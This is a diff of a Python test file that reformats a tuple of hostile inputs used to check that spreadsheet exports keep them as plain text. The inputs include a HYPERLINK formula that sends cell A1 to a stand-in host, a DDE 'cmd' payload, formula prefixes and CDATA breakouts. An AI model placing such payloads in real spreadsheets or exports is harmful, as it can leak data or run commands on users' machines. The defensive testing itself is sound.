@@ -148,10 +148,23 @@ def poisoned(data, texts):
 
 
 HOSTILE = (
-    '=HYPERLINK("http://e.example/?"&A1,"EVIL")', "+EVIL+1", "-EVIL", "@SUM(EVIL)", "\tEVIL\r=1+1",
-    "EVIL\x00\x07_x0041_", "{=EVIL}", '"&EVIL&"', "]]><EVIL/>", "«products[0].price»EVIL", "=cmd|' /C EVIL'!A0", "' EVIL", "EVIL" * 9000,
-    "http://e.example/EVIL", "EVIL\u202e=1", "\ud800EVIL",
-)  # fmt: skip
+    '=HYPERLINK("http://e.example/?"&A1,"EVIL")',
+    "+EVIL+1",
+    "-EVIL",
+    "@SUM(EVIL)",
+    "\tEVIL\r=1+1",
+    "EVIL\x00\x07_x0041_",
+    "{=EVIL}",
+    '"&EVIL&"',
+    "]]><EVIL/>",
+    "«products[0].price»EVIL",
+    "=cmd|' /C EVIL'!A0",
+    "' EVIL",
+    "EVIL" * 9000,
+    "http://e.example/EVIL",
+    "EVIL\u202e=1",
+    "\ud800EVIL",
+)
 
 
 def test_hostile_texts_stay_text(books, loaded, tmp_path):
